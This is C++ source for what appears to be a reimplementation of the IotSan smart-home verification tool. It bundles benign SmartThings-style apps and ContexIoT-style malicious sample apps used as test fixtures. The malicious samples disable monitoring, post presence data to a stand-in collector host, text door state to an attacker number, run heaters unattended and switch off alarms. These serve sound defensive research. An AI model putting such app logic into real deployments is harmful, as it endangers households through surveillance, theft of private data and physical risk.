        input "motions", "capability.motionSensor", title: "Motion sensors", multiple: true
    }
}

def installed() {
    subscribe(motions, "motion.active", motionHandler)
}

def motionHandler(evt) {
    // First event "throttles" — i.e. permanently disables — monitoring.
    unsubscribe()
}
)APP");

  // 7. Leaks presence patterns to an attacker server.
  add("Home Insights Collector", R"APP(
definition(name: "Home Insights Collector", namespace: "iotsan.attack",
    author: "anonymous",
    description: "Generates beautiful charts about your daily routines.")

preferences {
    section("Track") {
        input "people", "capability.presenceSensor", title: "Presence sensors", multiple: true
    }
}

def installed() {
    subscribe(people, "presence", presenceHandler)
}

def presenceHandler(evt) {
    httpPost("http://insights.example.net/collect", "who=${evt.displayName}&state=${evt.value}")
}
)APP");

  // 8. Texts door state to a hard-coded number instead of the user.
  add("Door State Texter", R"APP(
definition(name: "Door State Texter", namespace: "iotsan.attack",
    author: "anonymous",
    description: "Texts you whenever your front door opens or closes.")

preferences {
    section("Door contact") {
        input "contact1", "capability.contactSensor", title: "Door contact"
    }
}

def installed() {
    subscribe(contact1, "contact", contactHandler)
}

def contactHandler(evt) {
    // Hard-coded recipient: the report goes to the attacker, not the user.
    sendSms("555-ATTACKER", "front door is ${evt.value}")
}
)APP");

  // 9. Turns the heater on at full blast when nobody is home.
  add("Pipe Freeze Guard", R"APP(
definition(name: "Pipe Freeze Guard", namespace: "iotsan.attack",
    author: "anonymous",
    description: "Protects your pipes from freezing while you travel.")

preferences {
    section("Presence") {
        input "people", "capability.presenceSensor", title: "Presence sensors", multiple: true
    }
    section("Heater outlet") {
        input "heaters", "capability.outlet", title: "Heaters", multiple: true
    }
}

def installed() {
    subscribe(people, "presence.notpresent", awayHandler)
}

def awayHandler(evt) {
    def anyoneHome = people.find { it.currentPresence == "present" }
    if (anyoneHome == null) {
        // Unattended heater at full power.
        heaters.on()
    }
}
)APP");

  return apps;
}

std::vector<CorpusApp> UnsupportedAppsPart() {
  std::vector<CorpusApp> apps;
  auto add = [&apps](std::string name, std::string source) {
    apps.push_back(
        {std::move(name), AppKind::kUnsupported, std::move(source)});
  };

  // The four ContexIoT apps the paper cannot handle (§10.1): they
  // dynamically discover and control devices.
  add("Midnight Camera", R"APP(
definition(name: "Midnight Camera", namespace: "iotsan.attack",
    author: "anonymous",
    description: "Takes a nightly photo to verify your home is safe.")

preferences {
    section("Arm at midnight") {
        input "enabled", "bool", title: "Enabled", required: false
    }
}

def installed() {
    schedule("0 0 0 * * ?", midnightSnap)
}

def midnightSnap() {
    def cameras = getAllDevices()
    cameras.each { it.take() }
}
)APP");

  add("Auto Camera", R"APP(
definition(name: "Auto Camera", namespace: "iotsan.attack",
    author: "anonymous",
    description: "Automatically configures every camera in your home.")

preferences {
    section("Enable") {
        input "enabled", "bool", title: "Enabled", required: false
    }
}

def installed() {
    subscribe(app, appTouch)
}

def appTouch(evt) {
    def found = getChildDevices()
    found.each { it.take() }
}
)APP");

  add("Auto Camera 2", R"APP(
definition(name: "Auto Camera 2", namespace: "iotsan.attack",
    author: "anonymous",
    description: "Improved automatic camera configuration.")

preferences {
    section("Enable") {
        input "enabled", "bool", title: "Enabled", required: false
    }
}

def installed() {
    subscribe(app, appTouch)
}

def appTouch(evt) {
    def found = findAllDevices()
    found.each { it.take() }
}
)APP");

  add("Alarm Manager", R"APP(
definition(name: "Alarm Manager", namespace: "iotsan.attack",
    author: "anonymous",
    description: "Centrally manages every alarm in the house.")

preferences {
    section("Enable") {
        input "enabled", "bool", title: "Enabled", required: false
    }
}

def installed() {
    subscribe(app, appTouch)
}

def appTouch(evt) {
    def alarms = discoverDevices()
    alarms.each { it.off() }
}
)APP");

  return apps;
}

}  // namespace iotsan::corpus
