// The bundled app corpus.
//
// The paper evaluates IotSan on 150 apps from the SmartThings market
// place plus the ContexIoT malicious apps [52].  This corpus reproduces
// that workload in SmartScript: every app named in the paper (Virtual
// Thermostat, Brighten Dark Places, Let There Be Dark!, Auto Mode Change,
// Unlock Door, Big Turn On, Good Night, Light Follows Me, Light Off When
// Close, Make It So, Energy Saver, Darken Behind Me, ...), a broad set of
// additional market-style apps modeled on real SmartThingsPublic apps,
// nine ContexIoT-style malicious apps, and four apps using dynamic device
// discovery (which IotSan must reject, §10.1/§11).
//
// 150 market apps are reached by instantiating per-room/per-zone variants
// of the base apps (MakeVariant), matching how real households install
// the same app several times.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace iotsan::corpus {

enum class AppKind {
  kMarket,      // benign market-place app
  kMalicious,   // ContexIoT-style attack app
  kUnsupported, // uses dynamic device discovery; must be rejected
};

struct CorpusApp {
  std::string name;    // definition(name:) value
  AppKind kind = AppKind::kMarket;
  std::string source;  // SmartScript source text
};

/// All bundled apps.
const std::vector<CorpusApp>& AllApps();

/// The benign market apps (the paper's 150-app pool before variants).
std::vector<const CorpusApp*> MarketApps();

/// The nine ContexIoT-style malicious apps.
std::vector<const CorpusApp*> MaliciousApps();

/// The four dynamic-discovery apps IotSan rejects.
std::vector<const CorpusApp*> UnsupportedApps();

/// Finds an app by its definition name; nullptr when unknown.
const CorpusApp* FindApp(std::string_view name);

/// Renames a base app to an install-variant ("Light Follows Me" ->
/// "Light Follows Me (bedroom)") so the same logic can be installed
/// several times; the variant's inputs are unchanged.
std::string MakeVariant(const CorpusApp& base, std::string_view suffix);

}  // namespace iotsan::corpus
