#include "corpus/groups.hpp"

#include "config/builder.hpp"
#include "corpus/corpus.hpp"
#include "util/error.hpp"

namespace iotsan::corpus {

namespace {

constexpr const char* kPhone = "555-0100";

/// Registers a variant of `base_name` in `sources` and returns its name.
std::string Variant(std::map<std::string, std::string>& sources,
                    const std::string& base_name, const std::string& suffix) {
  const CorpusApp* base = FindApp(base_name);
  if (base == nullptr) {
    throw Error("corpus group references unknown app '" + base_name + "'");
  }
  const std::string name = base_name + " (" + suffix + ")";
  sources[name] = MakeVariant(*base, suffix);
  return name;
}

SystemUnderTest BuildGroup1() {
  SystemUnderTest sut;
  config::DeploymentBuilder b("group 1: lighting & doors");
  b.ContactPhone(kPhone);
  b.Device("frontDoor", "contactSensor", {"frontDoorContact"});
  b.Device("backDoor", "contactSensor");
  b.Device("lightMeter", "illuminanceSensor");
  b.Device("hallLight", "smartSwitch", {"light"});
  b.Device("livingLight", "smartSwitch", {"light"});
  b.Device("bedLight", "smartSwitch", {"light"});
  b.Device("porchLight", "smartSwitch", {"securityLight"});
  b.Device("nightLamp", "smartSwitch");
  b.Device("hallMotion", "motionSensor", {"securityMotion"});
  b.Device("livingMotion", "motionSensor");
  b.Device("alicePresence", "presenceSensor", {"presence"});
  b.Device("bobPresence", "presenceSensor", {"presence"});
  b.Device("doorLock", "smartLock", {"mainDoorLock"});
  b.Device("siren", "smartAlarm", {"alarmSiren"});
  b.Device("cam", "camera", {"camera"});

  b.App("Brighten Dark Places")
      .Devices("contact1", {"frontDoor"})
      .Devices("luminance1", {"lightMeter"})
      .Devices("switches", {"hallLight"});
  b.App("Let There Be Dark!")
      .Devices("contact1", {"frontDoor"})
      .Devices("switches", {"hallLight"});
  b.App("Light Follows Me")
      .Devices("motion1", {"hallMotion"})
      .Number("minutes1", 1)
      .Devices("switches", {"hallLight"});
  b.App("Light Off When Close")
      .Devices("contact1", {"backDoor"})
      .Devices("switches", {"livingLight"});
  b.App("Brighten My Path")
      .Devices("motion1", {"livingMotion"})
      .Devices("switches", {"livingLight"});
  b.App("Automated Light")
      .Devices("motionSensor", {"livingMotion"})
      .Devices("lights", {"livingLight"})
      .Number("offDelay", 1);
  b.App("Darken Behind Me")
      .Devices("motion1", {"hallMotion"})
      .Devices("switches", {"bedLight"});
  b.App("Big Turn On").Devices("switches", {"hallLight", "livingLight"});
  b.App("Big Turn Off").Devices("switches", {"hallLight", "livingLight"});
  b.App("Good Night")
      .Devices("switches", {"hallLight", "livingLight", "bedLight"})
      .Text("sleepMode", "Night")
      .Text("startTime", "22:00");
  b.App("Unlock Door").Devices("lock1", {"doorLock"});
  b.App("Auto Mode Change")
      .Devices("people", {"alicePresence", "bobPresence"})
      .Text("homeMode", "Home")
      .Text("awayMode", "Away");
  b.App("Lock It When I Leave")
      .Devices("people", {"alicePresence", "bobPresence"})
      .Devices("locks", {"doorLock"})
      .Text("phone", kPhone);
  b.App("Lock It At Night")
      .Devices("locks", {"doorLock"})
      .Text("nightMode", "Night");
  b.App("Auto Lock Door")
      .Devices("contact1", {"frontDoor"})
      .Devices("lock1", {"doorLock"})
      .Number("delaySeconds", 30);
  b.App("Welcome Home Lights")
      .Devices("people", {"alicePresence"})
      .Devices("switches", {"livingLight"});
  b.App("Goodbye Lights")
      .Devices("people", {"alicePresence", "bobPresence"})
      .Devices("switches", {"hallLight", "livingLight"});
  b.App("Night Light")
      .Devices("motion1", {"hallMotion"})
      .Devices("nightLight", {"nightLamp"})
      .Text("nightMode", "Night");
  b.App("Curfew Check")
      .Devices("contact1", {"frontDoor"})
      .Text("nightMode", "Night");
  b.App("Presence Change Push").Devices("person", {"alicePresence"});
  b.App("Smart Security")
      .Devices("motions", {"hallMotion"})
      .Devices("contacts", {"frontDoor"})
      .Devices("alarms", {"siren"})
      .Text("armedMode", "Away")
      .Text("phone", kPhone);
  b.App("Camera On Motion")
      .Devices("motion1", {"hallMotion"})
      .Devices("camera1", {"cam"});
  b.App("Make It So")
      .Devices("locks", {"doorLock"})
      .Devices("offSwitches", {"hallLight"})
      .Text("awayMode", "Away");
  b.App("Switch Changes Mode")
      .Devices("trigger", {"porchLight"})
      .Text("offMode", "Away");
  b.App("Turn On Before Sunset")
      .Devices("luminance1", {"lightMeter"})
      .Devices("switches", {"porchLight"})
      .Number("darkPoint", 100);
  sut.deployment = b.Build();
  return sut;
}

SystemUnderTest BuildGroup2() {
  SystemUnderTest sut;
  config::DeploymentBuilder b("group 2: climate");
  b.ContactPhone(kPhone);
  b.Device("tempMeas", "temperatureSensor", {"tempSensor"});
  b.Device("outdoorTemp", "temperatureSensor");
  b.Device("heaterOutlet", "smartOutlet", {"heaterOutlet"});
  b.Device("acOutlet", "smartOutlet", {"acOutlet"});
  b.Device("thermo", "thermostatDevice", {"thermostat"});
  b.Device("thermo2", "thermostatDevice");
  b.Device("humSensor", "humiditySensor");
  b.Device("humSensor2", "humiditySensor");
  b.Device("humidifierOutlet", "smartOutlet", {"applianceOutlet"});
  b.Device("dehumidifierOutlet", "smartOutlet", {"applianceOutlet"});
  b.Device("humidifier2", "smartOutlet", {"applianceOutlet"});
  b.Device("dehumidifier2", "smartOutlet", {"applianceOutlet"});
  b.Device("window1", "contactSensor");
  b.Device("window2", "contactSensor");
  b.Device("livingMotion", "motionSensor");
  b.Device("alicePresence", "presenceSensor", {"presence"});
  b.Device("bedTemp", "temperatureSensor", {"tempSensor"});
  b.Device("bedHeater", "smartOutlet", {"heaterOutlet"});
  b.Device("bedAC", "smartOutlet", {"acOutlet"});
  b.Device("fanOutlet", "smartSwitch", {"ventSwitch"});

  b.App("Virtual Thermostat")
      .Devices("sensor", {"tempMeas"})
      .Devices("outlets", {"acOutlet"})
      .Number("setpoint", 75)
      .Devices("motion", {"livingMotion"})
      .Number("minutes", 10)
      .Number("emergencySetpoint", 85)
      .Text("mode", "cool");
  b.App("It's Too Cold")
      .Devices("temperatureSensor1", {"tempMeas"})
      .Number("temperature1", 65)
      .Devices("switch1", {"heaterOutlet"});
  b.App("It's Too Hot")
      .Devices("temperatureSensor1", {"tempMeas"})
      .Number("temperature1", 80)
      .Devices("switch1", {"acOutlet"});
  b.App("Energy Saver").Devices("outlets", {"heaterOutlet"});
  b.App("Thermostat Mode Director")
      .Devices("sensor", {"outdoorTemp"})
      .Devices("thermostat", {"thermo"})
      .Number("heatPoint", 65)
      .Number("coolPoint", 80);
  b.App("Keep Me Cozy")
      .Devices("thermostat", {"thermo"})
      .Number("heatingSetpoint", 70)
      .Number("coolingSetpoint", 75);
  b.App("Smart Humidifier")
      .Devices("humidity1", {"humSensor"})
      .Devices("humidifier", {"humidifierOutlet"})
      .Number("dryPoint", 40);
  b.App("Dehumidifier Controller")
      .Devices("humidity1", {"humSensor"})
      .Devices("dehumidifier", {"dehumidifierOutlet"})
      .Number("wetPoint", 60);
  b.App("Appliances Off When Away")
      .Devices("outlets", {"humidifierOutlet", "dehumidifierOutlet"})
      .Text("awayMode", "Away");
  b.App("Window Left Open Alert")
      .Devices("window1", {"window1"})
      .Devices("sensor", {"tempMeas"})
      .Number("coldPoint", 65)
      .Text("phone", kPhone);
  b.App("Auto Mode Change")
      .Devices("people", {"alicePresence"})
      .Text("homeMode", "Home")
      .Text("awayMode", "Away");
  b.App("Presence Change Push").Devices("person", {"alicePresence"});
  b.App("Scheduled Mode Change").Text("targetMode", "Night");
  b.App("Once A Day").Devices("switches", {"fanOutlet"});

  auto& sources = sut.extra_sources;
  b.App(Variant(sources, "Virtual Thermostat", "bedroom"))
      .Devices("sensor", {"bedTemp"})
      .Devices("outlets", {"bedHeater"})
      .Number("setpoint", 75)
      .Text("mode", "heat");
  b.App(Variant(sources, "It's Too Cold", "bedroom"))
      .Devices("temperatureSensor1", {"bedTemp"})
      .Number("temperature1", 65)
      .Devices("switch1", {"bedHeater"});
  b.App(Variant(sources, "It's Too Hot", "bedroom"))
      .Devices("temperatureSensor1", {"bedTemp"})
      .Number("temperature1", 80)
      .Devices("switch1", {"bedAC"});
  b.App(Variant(sources, "Energy Saver", "bedroom"))
      .Devices("outlets", {"bedHeater", "bedAC"});
  b.App(Variant(sources, "Smart Humidifier", "bedroom"))
      .Devices("humidity1", {"humSensor2"})
      .Devices("humidifier", {"humidifier2"})
      .Number("dryPoint", 40);
  b.App(Variant(sources, "Dehumidifier Controller", "bedroom"))
      .Devices("humidity1", {"humSensor2"})
      .Devices("dehumidifier", {"dehumidifier2"})
      .Number("wetPoint", 60);
  b.App(Variant(sources, "Window Left Open Alert", "bedroom"))
      .Devices("window1", {"window2"})
      .Devices("sensor", {"bedTemp"})
      .Number("coldPoint", 65)
      .Text("phone", kPhone);
  b.App(Variant(sources, "Appliances Off When Away", "bedroom"))
      .Devices("outlets", {"humidifier2"})
      .Text("awayMode", "Away");
  b.App(Variant(sources, "Thermostat Mode Director", "upstairs"))
      .Devices("sensor", {"outdoorTemp"})
      .Devices("thermostat", {"thermo2"})
      .Number("heatPoint", 65)
      .Number("coolPoint", 80);
  b.App(Variant(sources, "Keep Me Cozy", "upstairs"))
      .Devices("thermostat", {"thermo2"})
      .Number("heatingSetpoint", 70)
      .Number("coolingSetpoint", 75);
  b.App(Variant(sources, "Once A Day", "bedroom"))
      .Devices("switches", {"bedAC"});
  sut.deployment = b.Build();
  return sut;
}

SystemUnderTest BuildGroup3() {
  SystemUnderTest sut;
  config::DeploymentBuilder b("group 3: security & alarming");
  b.ContactPhone(kPhone);
  b.Device("smokeDet", "smokeDetector", {"smokeSensor", "coSensor"});
  b.Device("smokeDet2", "smokeDetector", {"smokeSensor", "coSensor"});
  b.Device("coDet", "coDetector", {"coSensor"});
  b.Device("coDet2", "coDetector", {"coSensor"});
  b.Device("siren1", "smartAlarm", {"alarmSiren"});
  b.Device("siren2", "smartAlarm", {"alarmSiren"});
  b.Device("frontDoor", "contactSensor", {"frontDoorContact"});
  b.Device("gateContact", "contactSensor");
  b.Device("hallMotion", "motionSensor", {"securityMotion"});
  b.Device("upMotion", "motionSensor", {"securityMotion"});
  b.Device("backMotion", "motionSensor");
  b.Device("cam", "camera", {"camera"});
  b.Device("doorLock", "smartLock", {"mainDoorLock"});
  b.Device("heaterOutlet", "smartOutlet", {"heaterOutlet"});
  b.Device("fanVent", "smartSwitch", {"ventSwitch"});
  b.Device("fanVent2", "smartSwitch", {"ventSwitch"});
  b.Device("valve1", "waterValve", {"waterValve"});
  b.Device("leak1", "waterLeakSensor", {"leakSensor"});
  b.Device("leak2", "waterLeakSensor", {"leakSensor"});
  b.Device("alicePresence", "presenceSensor", {"presence"});
  b.Device("porchLight", "smartSwitch", {"securityLight"});
  b.Device("multi1", "multiSensor");

  b.App("Smoke Alarm Deluxe")
      .Devices("smoke1", {"smokeDet"})
      .Devices("alarms", {"siren1", "siren2"})
      .Devices("locks", {"doorLock"})
      .Devices("heaters", {"heaterOutlet"});
  b.App("CO2 Vent")
      .Devices("coDetector", {"coDet"})
      .Devices("fans", {"fanVent"});
  b.App("Smart Security")
      .Devices("motions", {"hallMotion"})
      .Devices("contacts", {"frontDoor"})
      .Devices("alarms", {"siren1"})
      .Text("armedMode", "Away")
      .Text("phone", kPhone);
  b.App("Camera On Motion")
      .Devices("motion1", {"hallMotion"})
      .Devices("camera1", {"cam"});
  b.App("Flood Night Alarm")
      .Devices("leak1", {"leak1"})
      .Devices("alarms", {"siren2"})
      .Devices("lights", {"porchLight"});
  b.App("Leak Guard")
      .Devices("leak1", {"leak1"})
      .Devices("valve1", {"valve1"})
      .Text("phone", kPhone);
  b.App("Undead Early Warning")
      .Devices("contact1", {"gateContact"})
      .Devices("switches", {"porchLight"})
      .Devices("alarms", {"siren2"});
  b.App("Auto Mode Change")
      .Devices("people", {"alicePresence"})
      .Text("homeMode", "Home")
      .Text("awayMode", "Away");
  b.App("Make It So")
      .Devices("locks", {"doorLock"})
      .Devices("offSwitches", {"heaterOutlet"})
      .Text("awayMode", "Away");
  b.App("Lock It When I Leave")
      .Devices("people", {"alicePresence"})
      .Devices("locks", {"doorLock"})
      .Text("phone", kPhone);
  b.App("Unlock Door").Devices("lock1", {"doorLock"});
  b.App("Curfew Check")
      .Devices("contact1", {"frontDoor"})
      .Text("nightMode", "Night");
  b.App("Door Knocker Alert")
      .Devices("accel1", {"multi1"})
      .Devices("contact1", {"frontDoor"});
  b.App("Presence Change Push").Devices("person", {"alicePresence"});
  b.App("Lock It At Night")
      .Devices("locks", {"doorLock"})
      .Text("nightMode", "Night");
  b.App("Big Turn On").Devices("switches", {"porchLight"});
  b.App("Night Light")
      .Devices("motion1", {"hallMotion"})
      .Devices("nightLight", {"porchLight"})
      .Text("nightMode", "Night");
  b.App("Low Battery Notifier")
      .Devices("sensors", {"hallMotion", "upMotion"})
      .Number("threshold", 20);
  b.App("Switch Changes Mode")
      .Devices("trigger", {"porchLight"})
      .Text("offMode", "Night");

  auto& sources = sut.extra_sources;
  b.App(Variant(sources, "Smart Security", "upstairs"))
      .Devices("motions", {"upMotion"})
      .Devices("alarms", {"siren2"})
      .Text("armedMode", "Away")
      .Text("phone", kPhone);
  b.App(Variant(sources, "Camera On Motion", "backyard"))
      .Devices("motion1", {"backMotion"})
      .Devices("camera1", {"cam"});
  b.App(Variant(sources, "Smoke Alarm Deluxe", "garage"))
      .Devices("smoke1", {"smokeDet2"})
      .Devices("alarms", {"siren2"});
  b.App(Variant(sources, "CO2 Vent", "garage"))
      .Devices("coDetector", {"coDet2"})
      .Devices("fans", {"fanVent2"});
  b.App(Variant(sources, "Flood Night Alarm", "basement"))
      .Devices("leak1", {"leak2"})
      .Devices("alarms", {"siren1"});
  b.App(Variant(sources, "Leak Guard", "basement"))
      .Devices("leak1", {"leak2"})
      .Devices("valve1", {"valve1"})
      .Text("phone", kPhone);
  sut.deployment = b.Build();
  return sut;
}

SystemUnderTest BuildGroup4() {
  SystemUnderTest sut;
  config::DeploymentBuilder b("group 4: water & garden");
  b.ContactPhone(kPhone);
  b.Device("moisture1", "soilMoistureSensor", {"moistureSensor"});
  b.Device("moisture2", "soilMoistureSensor", {"moistureSensor"});
  b.Device("sprinkler1", "smartSwitch", {"sprinklerSwitch"});
  b.Device("sprinkler2", "smartSwitch", {"sprinklerSwitch"});
  b.Device("leak1", "waterLeakSensor", {"leakSensor"});
  b.Device("leak2", "waterLeakSensor", {"leakSensor"});
  b.Device("valve1", "waterValve", {"waterValve"});
  b.Device("garageDoor", "garageDoorOpener", {"garageDoor"});
  b.Device("garagePresence", "presenceSensor", {"presence"});
  b.Device("alarm1", "smartAlarm", {"alarmSiren"});
  b.Device("shade1", "windowShadeController", {"windowShade"});
  b.Device("speaker1", "speaker", {"speaker"});
  b.Device("patioLight", "smartSwitch", {"light"});
  b.Device("lightMeter", "illuminanceSensor");
  b.Device("yardMotion", "motionSensor", {"securityMotion"});
  b.Device("cam1", "camera", {"camera"});

  b.App("Soil Moisture Watcher")
      .Devices("moisture1", {"moisture1"})
      .Devices("sprinklers", {"sprinkler1"})
      .Number("dryPoint", 20)
      .Number("wetPoint", 60);
  b.App("Sprinkler Timer")
      .Devices("sprinklers", {"sprinkler1"})
      .Number("runMinutes", 10);
  b.App("Leak Guard")
      .Devices("leak1", {"leak1"})
      .Devices("valve1", {"valve1"})
      .Text("phone", kPhone);
  b.App("Flood Night Alarm")
      .Devices("leak1", {"leak1"})
      .Devices("alarms", {"alarm1"});
  b.App("Garage Door Auto Close")
      .Devices("door1", {"garageDoor"})
      .Text("awayMode", "Away");
  b.App("Garage Door Opener")
      .Devices("person", {"garagePresence"})
      .Devices("door1", {"garageDoor"});
  b.App("Auto Mode Change")
      .Devices("people", {"garagePresence"})
      .Text("homeMode", "Home")
      .Text("awayMode", "Away");
  b.App("Music When Home")
      .Devices("people", {"garagePresence"})
      .Devices("player", {"speaker1"});
  b.App("Silence When Away")
      .Devices("people", {"garagePresence"})
      .Devices("player", {"speaker1"});
  b.App("Shade Closer")
      .Devices("shades", {"shade1"})
      .Text("awayMode", "Away");
  b.App("Sunrise Shades").Devices("shades", {"shade1"});
  b.App("Presence Change Push").Devices("person", {"garagePresence"});
  b.App("Once A Day").Devices("switches", {"patioLight"});
  b.App("Turn On Before Sunset")
      .Devices("luminance1", {"lightMeter"})
      .Devices("switches", {"patioLight"})
      .Number("darkPoint", 100);
  b.App("Big Turn Off").Devices("switches", {"patioLight"});
  b.App("Vacation Lighting")
      .Devices("switches", {"patioLight"})
      .Text("awayMode", "Away");
  b.App("Goodbye Lights")
      .Devices("people", {"garagePresence"})
      .Devices("switches", {"patioLight"});
  b.App("Welcome Home Lights")
      .Devices("people", {"garagePresence"})
      .Devices("switches", {"patioLight"});
  b.App("Curfew Check")
      .Devices("contact1", {"garageDoor"})
      .Text("nightMode", "Night");
  b.App("Camera On Motion")
      .Devices("motion1", {"yardMotion"})
      .Devices("camera1", {"cam1"});
  b.App("Smart Security")
      .Devices("motions", {"yardMotion"})
      .Devices("alarms", {"alarm1"})
      .Text("armedMode", "Away")
      .Text("phone", kPhone);

  auto& sources = sut.extra_sources;
  b.App(Variant(sources, "Soil Moisture Watcher", "backyard"))
      .Devices("moisture1", {"moisture2"})
      .Devices("sprinklers", {"sprinkler2"})
      .Number("dryPoint", 20)
      .Number("wetPoint", 60);
  b.App(Variant(sources, "Sprinkler Timer", "backyard"))
      .Devices("sprinklers", {"sprinkler2"})
      .Number("runMinutes", 10);
  b.App(Variant(sources, "Leak Guard", "bathroom"))
      .Devices("leak1", {"leak2"})
      .Devices("valve1", {"valve1"})
      .Text("phone", kPhone);
  b.App(Variant(sources, "Flood Night Alarm", "bathroom"))
      .Devices("leak1", {"leak2"})
      .Devices("alarms", {"alarm1"})
      .Devices("lights", {"patioLight"});
  sut.deployment = b.Build();
  return sut;
}

SystemUnderTest BuildGroup5() {
  SystemUnderTest sut;
  config::DeploymentBuilder b("group 5: connectivity & audio");
  b.ContactPhone(kPhone);
  b.Device("tempOut", "temperatureSensor", {"tempSensor"});
  b.Device("statusLight", "smartSwitch", {"light"});
  b.Device("lightMeter5", "illuminanceSensor");
  b.Device("alicePresence", "presenceSensor", {"presence"});
  b.Device("speaker5", "speaker", {"speaker"});
  b.Device("hallMotion", "motionSensor");
  b.Device("frontDoor", "contactSensor", {"frontDoorContact"});
  b.Device("doorLock", "smartLock", {"mainDoorLock"});
  b.Device("heaterOut", "smartOutlet", {"heaterOutlet"});

  b.App("Weather Logger").Devices("sensor", {"tempOut"});
  b.App("Remote Status Reporter").Devices("switches", {"statusLight"});
  b.App("Presence Change Push").Devices("person", {"alicePresence"});
  b.App("Music When Home")
      .Devices("people", {"alicePresence"})
      .Devices("player", {"speaker5"});
  b.App("Silence When Away")
      .Devices("people", {"alicePresence"})
      .Devices("player", {"speaker5"});
  b.App("It's Too Cold")
      .Devices("temperatureSensor1", {"tempOut"})
      .Number("temperature1", 65)
      .Devices("switch1", {"heaterOut"});
  b.App("Energy Saver").Devices("outlets", {"heaterOut", "statusLight"});
  b.App("Once A Day").Devices("switches", {"statusLight"});
  b.App("Scheduled Mode Change").Text("targetMode", "Night");
  b.App("Lock It At Night")
      .Devices("locks", {"doorLock"})
      .Text("nightMode", "Night");
  b.App("Unlock Door").Devices("lock1", {"doorLock"});
  b.App("Auto Mode Change")
      .Devices("people", {"alicePresence"})
      .Text("homeMode", "Home")
      .Text("awayMode", "Away");
  b.App("Big Turn On").Devices("switches", {"statusLight"});
  b.App("Big Turn Off").Devices("switches", {"statusLight"});
  b.App("Good Night")
      .Devices("switches", {"statusLight"})
      .Text("sleepMode", "Night")
      .Text("startTime", "22:00");
  b.App("Light Follows Me")
      .Devices("motion1", {"hallMotion"})
      .Number("minutes1", 1)
      .Devices("switches", {"statusLight"});
  b.App("Brighten My Path")
      .Devices("motion1", {"hallMotion"})
      .Devices("switches", {"statusLight"});
  b.App("Darken Behind Me")
      .Devices("motion1", {"hallMotion"})
      .Devices("switches", {"statusLight"});
  b.App("Automated Light")
      .Devices("motionSensor", {"hallMotion"})
      .Devices("lights", {"statusLight"})
      .Number("offDelay", 1);
  b.App("Let There Be Dark!")
      .Devices("contact1", {"frontDoor"})
      .Devices("switches", {"statusLight"});
  b.App("Brighten Dark Places")
      .Devices("contact1", {"frontDoor"})
      .Devices("luminance1", {"lightMeter5"})
      .Devices("switches", {"statusLight"});
  b.App("Light Off When Close")
      .Devices("contact1", {"frontDoor"})
      .Devices("switches", {"statusLight"});
  b.App("Curfew Check")
      .Devices("contact1", {"frontDoor"})
      .Text("nightMode", "Night");
  b.App("Auto Lock Door")
      .Devices("contact1", {"frontDoor"})
      .Devices("lock1", {"doorLock"})
      .Number("delaySeconds", 30);
  b.App("Welcome Home Lights")
      .Devices("people", {"alicePresence"})
      .Devices("switches", {"statusLight"});
  sut.deployment = b.Build();
  return sut;
}

SystemUnderTest BuildGroup6() {
  SystemUnderTest sut;
  auto& sources = sut.extra_sources;
  config::DeploymentBuilder b("group 6: whole-home mix");
  b.ContactPhone(kPhone);
  b.Device("kitchenMotion", "motionSensor");
  b.Device("kitchenLight", "smartSwitch", {"light"});
  b.Device("kitchenContact", "contactSensor", {"frontDoorContact"});
  b.Device("kitchenMeter", "illuminanceSensor");
  b.Device("bedMotion", "motionSensor");
  b.Device("bedLight2", "smartSwitch", {"light"});
  b.Device("garageMotion", "motionSensor", {"securityMotion"});
  b.Device("garageLight", "smartSwitch", {"securityLight"});
  b.Device("alicePresence", "presenceSensor", {"presence"});
  b.Device("bobPresence", "presenceSensor", {"presence"});
  b.Device("lock2", "smartLock", {"mainDoorLock"});
  b.Device("siren6", "smartAlarm", {"alarmSiren"});
  b.Device("tempKitchen", "temperatureSensor", {"tempSensor"});
  b.Device("kettleOutlet", "smartOutlet", {"applianceOutlet"});
  b.Device("garageCam", "camera", {"camera"});

  b.App(Variant(sources, "Light Follows Me", "kitchen"))
      .Devices("motion1", {"kitchenMotion"})
      .Number("minutes1", 1)
      .Devices("switches", {"kitchenLight"});
  b.App(Variant(sources, "Brighten My Path", "bedroom"))
      .Devices("motion1", {"bedMotion"})
      .Devices("switches", {"bedLight2"});
  b.App(Variant(sources, "Darken Behind Me", "garage"))
      .Devices("motion1", {"garageMotion"})
      .Devices("switches", {"garageLight"});
  b.App(Variant(sources, "Automated Light", "kitchen"))
      .Devices("motionSensor", {"kitchenMotion"})
      .Devices("lights", {"kitchenLight"})
      .Number("offDelay", 1);
  b.App(Variant(sources, "Let There Be Dark!", "kitchen"))
      .Devices("contact1", {"kitchenContact"})
      .Devices("switches", {"kitchenLight"});
  b.App(Variant(sources, "Brighten Dark Places", "kitchen"))
      .Devices("contact1", {"kitchenContact"})
      .Devices("luminance1", {"kitchenMeter"})
      .Devices("switches", {"kitchenLight"});
  b.App(Variant(sources, "Light Off When Close", "kitchen"))
      .Devices("contact1", {"kitchenContact"})
      .Devices("switches", {"kitchenLight"});
  b.App(Variant(sources, "Good Night", "bedroom"))
      .Devices("switches", {"bedLight2", "kitchenLight"})
      .Text("sleepMode", "Night")
      .Text("startTime", "22:00");
  b.App(Variant(sources, "Unlock Door", "garage"))
      .Devices("lock1", {"lock2"});
  b.App(Variant(sources, "Auto Mode Change", "family"))
      .Devices("people", {"alicePresence", "bobPresence"})
      .Text("homeMode", "Home")
      .Text("awayMode", "Away");
  b.App(Variant(sources, "Lock It When I Leave", "family"))
      .Devices("people", {"alicePresence", "bobPresence"})
      .Devices("locks", {"lock2"})
      .Text("phone", kPhone);
  b.App(Variant(sources, "Make It So", "home"))
      .Devices("locks", {"lock2"})
      .Devices("offSwitches", {"kitchenLight", "kettleOutlet"})
      .Text("awayMode", "Away");
  b.App(Variant(sources, "Big Turn On", "all"))
      .Devices("switches", {"kitchenLight", "bedLight2", "garageLight"});
  b.App(Variant(sources, "Big Turn Off", "all"))
      .Devices("switches", {"kitchenLight", "bedLight2", "garageLight"});
  b.App(Variant(sources, "Night Light", "bedroom"))
      .Devices("motion1", {"bedMotion"})
      .Devices("nightLight", {"bedLight2"})
      .Text("nightMode", "Night");
  b.App(Variant(sources, "Welcome Home Lights", "kitchen"))
      .Devices("people", {"alicePresence"})
      .Devices("switches", {"kitchenLight"});
  b.App(Variant(sources, "Goodbye Lights", "kitchen"))
      .Devices("people", {"alicePresence", "bobPresence"})
      .Devices("switches", {"kitchenLight"});
  b.App(Variant(sources, "Presence Change Push", "bob"))
      .Devices("person", {"bobPresence"});
  b.App(Variant(sources, "Curfew Check", "kitchen"))
